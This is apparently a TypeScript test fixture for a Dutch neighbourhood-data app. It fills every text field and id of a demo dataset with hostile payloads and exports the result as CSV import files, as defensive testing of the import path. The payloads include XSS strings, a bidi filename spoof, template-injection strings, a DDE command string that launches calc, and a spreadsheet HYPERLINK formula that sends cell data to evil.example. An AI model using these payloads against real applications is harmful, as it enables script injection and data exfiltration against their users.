import { buildDataset, datasetCsv } from '../../data/generate/dataset';
import type { Dataset } from '../../data/generate/types';
import { type ImportFile } from '../../src/lib/import';

/** What a hostile export could put in a text field; each would set `window.wijkradarPwned` or open a dialog if it ran. */
export const PAYLOADS = [
	'<script>window.wijkradarPwned=1;alert(1)</script>',
	'<img src=x onerror="window.wijkradarPwned=1;alert(1)">',
	'javascript:window.wijkradarPwned=1;alert(1)',
	'<svg onload="window.wijkradarPwned=1"><script>alert(1)</script></svg>',
	'<a href="javascript:alert(1)" style="position:fixed;inset:0">klik</a>',
	'"><iframe srcdoc="<script>parent.wijkradarPwned=1</script>">',
	'\u202Eexe.tnemucod\u202C Wijkteam \u2067ما\u2069',
	'=HYPERLINK("http://evil.example/?"&A1,"klik")',
	'+cmd|\' /C calc\'!A0',
	'{{constructor.constructor(\'alert(1)\')()}} ${alert(1)}',
	`Lange naam ${'zonder einde '.repeat(800)}`.slice(0, 10_000)
];

/** The payload for the n-th value, so that every kind of field meets every payload. */
const payload = (n: number) => PAYLOADS[n % PAYLOADS.length];

/** Every text field of the contract, per table; ids are renamed consistently through `id`. */
const TEXT: { [K in keyof Dataset]?: string[] } = {
	wijken: ['name', 'gemeente', 'region'],
	coordinators: ['name', 'organisation'],
	partners: ['name', 'contact_person', 'phone', 'email'],
	meetings: ['theme'],
	actions: ['title', 'theme']
};
const IDS = ['wijk_id', 'partner_id', 'coordinator_id', 'meeting_id', 'action_id', 'referral_id', 'from_partner_id', 'to_partner_id'];

/**
 * The demo generator's region (another seed) with a payload in every text field and every id, a
 * few reasons and channels replaced by payloads too (they map to `overig` with a warning naming them).
 */
export function hostileRegion(): Dataset {
	const data = buildDataset(7);
	const renamed = new Map<string, string>();
	const id = (value: string) => {
		if (!renamed.has(value)) renamed.set(value, `${value}${payload(renamed.size).slice(0, 60)}`);
		return renamed.get(value)!;
	};
	let n = 0;
	const rewrite = <T extends object>(rows: T[], fields: string[] = []): T[] =>
		rows.map((row) => {
			const out = { ...row } as Record<string, unknown>;
			for (const key of IDS) if (typeof out[key] === 'string' && out[key]) out[key] = id(out[key] as string);
			for (const key of fields) out[key] = `${out[key] ?? ''} ${payload(n++)}`.trim();
			return out as T;
		});
	const result = Object.fromEntries(Object.entries(data).map(([table, rows]) => [table, rewrite(rows as object[], TEXT[table as keyof Dataset])])) as unknown as Dataset;
	result.referrals.slice(0, 40).forEach((r, i) => ((r as { reason: string }).reason = payload(i)));
	result.contacts.slice(0, 20).forEach((c, i) => ((c as { channel: string }).channel = payload(i)));
	return result;
}

export function hostileRegionFiles(): ImportFile[] {
	return Object.entries(datasetCsv(hostileRegion())).map(([table, csv]) => ({ name: `${table}.csv`, bytes: new TextEncoder().encode(csv) }));
}
